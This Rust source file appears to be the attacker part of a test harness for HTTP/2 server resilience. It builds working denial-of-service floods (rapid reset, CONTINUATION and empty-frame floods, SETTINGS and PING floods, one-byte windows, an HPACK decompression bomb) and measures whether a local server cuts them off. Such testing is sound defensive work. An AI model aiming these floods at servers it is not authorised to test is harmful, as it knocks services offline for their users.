//! The attacker, a process of its own so that its CPU time is its own.

use crate::{
    Trouble,
    frames::{
        CONTINUATION, Connection, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS, WINDOW_UPDATE,
        field, frame, head, read,
    },
    process::processor_ms,
};
use clap::{Parser, ValueEnum};
use std::{
    sync::{
        Arc,
        atomic::{AtomicBool, Ordering::Relaxed},
    },
    time::{Duration, Instant},
};
use tokio::{io::AsyncWriteExt, task::JoinSet, time::timeout};

/// Connections at once.
const CONNECTIONS: usize = 4;
/// A connection that floods for so long and is not closed is called unhindered.
const PATIENCE: Duration = Duration::from_secs(6);
/// The settings' identifier of the window that streams begin with (RFC 9113, 6.5.2).
const INITIAL_WINDOW_SIZE: u16 = 4;

#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
pub enum Kind {
    RapidReset,
    Continuation,
    EmptyContinuation,
    Settings,
    Ping,
    EmptyData,
    OneByteWindows,
    HpackBomb,
}

impl Kind {
    pub const fn name(self) -> &'static str {
        match self {
            Self::RapidReset => "rapid-reset",
            Self::Continuation => "continuation",
            Self::EmptyContinuation => "empty-continuation",
            Self::Settings => "settings",
            Self::Ping => "ping",
            Self::EmptyData => "empty-data",
            Self::OneByteWindows => "one-byte-windows",
            Self::HpackBomb => "hpack-bomb",
        }
    }

    /// What a connection of this kind begins with.
    fn first(self, key: &str) -> Vec<u8> {
        match self {
            Self::Continuation | Self::EmptyContinuation => frame(HEADERS, 0, 1, &head("GET", PATH, key)),
            Self::EmptyData => frame(HEADERS, END_HEADERS, 1, &head("POST", PATH, key)),
            Self::OneByteWindows => {
                (0..100).flat_map(|number| call(number * 2 + 1, "/payments/payments?bytes=100000", key)).collect()
            }
            Self::HpackBomb => {
                let mut first = head("GET", PATH, key);
                first.extend(field("x-bomb", &"b".repeat(3_900), true));
                frame(HEADERS, END_HEADERS | END_STREAM, 1, &first)
            }
            Self::RapidReset | Self::Settings | Self::Ping => Vec::new(),
        }
    }

    /// Whether each batch is like the one before.
    const fn repeats(self) -> bool {
        !matches!(self, Self::RapidReset | Self::OneByteWindows | Self::HpackBomb)
    }

    /// What it then goes on with; `batch` counts from zero.
    fn next(self, batch: u32, key: &str) -> Vec<u8> {
        match self {
            Self::RapidReset => {
                let streams = (0..100).map(|number| (batch * 100 + number) * 2 + 1);
                let taken_back = |stream| frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes());
                let slow = "/payments/payments?wait=5000";
                streams.flat_map(|stream| [call(stream, slow, key), taken_back(stream)].concat()).collect()
            }
            Self::Continuation => frame(CONTINUATION, 0, 1, &field("x-filler", &"y".repeat(1_000), false)).repeat(20),
            Self::EmptyContinuation => frame(CONTINUATION, 0, 1, &[]).repeat(200),
            Self::Settings => frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100]).repeat(200),
            Self::Ping => frame(PING, 0, 0, &[7; 8]).repeat(200),
            Self::EmptyData => frame(DATA, 0, 1, &[]).repeat(200),
            Self::OneByteWindows => (0..100)
                .flat_map(|number| frame(WINDOW_UPDATE, 0, ((number + batch) % 100) * 2 + 1, &1_u32.to_be_bytes()))
                .collect(),
            Self::HpackBomb => {
                let mut bomb = head("GET", PATH, key);
                // The newest entry of the table, 15,000 times: 60 MB from 15 KB.
                bomb.extend([0x80 | 62; 15_000]);
                frame(HEADERS, END_HEADERS | END_STREAM, (batch + 1) * 2 + 1, &bomb)
            }
        }
    }
}

const PATH: &str = "/payments/payments";

fn call(stream: u32, path: &str, key: &str) -> Vec<u8> {
    frame(HEADERS, END_HEADERS | END_STREAM, stream, &head("GET", path, key))
}

#[derive(Parser, Clone)]
pub struct Attacker {
    #[arg(long)]
    port: u16,
    #[arg(long)]
    key: String,
    #[arg(long)]
    seconds: u64,
    #[arg(long, value_enum)]
    kind: Kind,
}

/// What the attacker did, as its process says it in one line.
#[derive(Debug, Default, Clone, Copy)]
pub struct Tally {
    pub connections: u64,
    /// By the server.
    pub closed: u64,
    pub longest_ms: u64,
    pub bytes: u64,
    /// Milliseconds of the attacker's own.
    pub cpu: u64,
}

impl Tally {
    pub fn read(line: &str) -> Option<Self> {
        let numbers: Vec<u64> = line.split_whitespace().filter_map(|number| number.parse().ok()).collect();
        let [connections, closed, longest_ms, bytes, cpu] = numbers[..] else { return None };
        Some(Self { connections, closed, longest_ms, bytes, cpu })
    }

    fn line(&self) -> String {
        let Self { connections, closed, longest_ms, bytes, cpu } = self;
        format!("{connections} {closed} {longest_ms} {bytes} {cpu}")
    }
}

/// Attacks, and prints what it did.
pub async fn run(attacker: &Attacker) -> Result<bool, Trouble> {
    let until = Instant::now() + Duration::from_secs(attacker.seconds);
    let mut running = JoinSet::new();
    for _ in 0..CONNECTIONS {
        let attacker = attacker.clone();
        running.spawn(async move {
            let mut tally = Tally::default();
            while Instant::now() < until {
                one_connection(&attacker, &mut tally).await;
            }
            tally
        });
    }
    let mut all = Tally::default();
    for tally in running.join_all().await {
        all.connections += tally.connections;
        all.closed += tally.closed;
        all.longest_ms = all.longest_ms.max(tally.longest_ms);
        all.bytes += tally.bytes;
    }
    all.cpu = processor_ms(std::process::id());
    println!("{}", all.line());
    Ok(true)
}

async fn one_connection(attacker: &Attacker, tally: &mut Tally) {
    let Attacker { kind, key, .. } = attacker;
    let settings: &[(u16, u32)] = if *kind == Kind::OneByteWindows { &[(INITIAL_WINDOW_SIZE, 1)] } else { &[] };
    let Ok(connection) = Connection::open(attacker.port, settings).await else {
        tokio::time::sleep(Duration::from_millis(10)).await;
        return;
    };
    let began = Instant::now();
    let closed = Arc::new(AtomicBool::new(false));
    let (mut writer, mut reader) = connection.split();
    let told = closed.clone();
    let reading = tokio::spawn(async move {
        while read(&mut reader).await.is_some() {}
        told.store(true, Relaxed);
    });
    tally.connections += 1;
    let (mut bytes, mut batch) = (kind.first(key), 0);
    let mut sent = 0;
    while began.elapsed() < PATIENCE && !closed.load(Relaxed) {
        match timeout(Duration::from_millis(500), writer.write(bytes.get(sent..).unwrap_or_default())).await {
            Ok(Err(_)) => break,
            Ok(Ok(written)) => {
                sent += written;
                tally.bytes += written as u64;
            }
            // It stopped reading, which is a way of closing only if it then closes.
            Err(_) => {}
        }
        if sent < bytes.len() {
            continue;
        }
        if batch == 0 || !kind.repeats() {
            bytes = kind.next(batch, key);
        }
        sent = 0;
        batch += 1;
    }
    let hindered = began.elapsed() < PATIENCE || closed.load(Relaxed);
    tally.closed += u64::from(hindered);
    tally.longest_ms = tally.longest_ms.max(u64::try_from(began.elapsed().as_millis()).unwrap_or(u64::MAX));
    drop(writer);
    let _ = timeout(Duration::from_secs(1), reading).await;
}
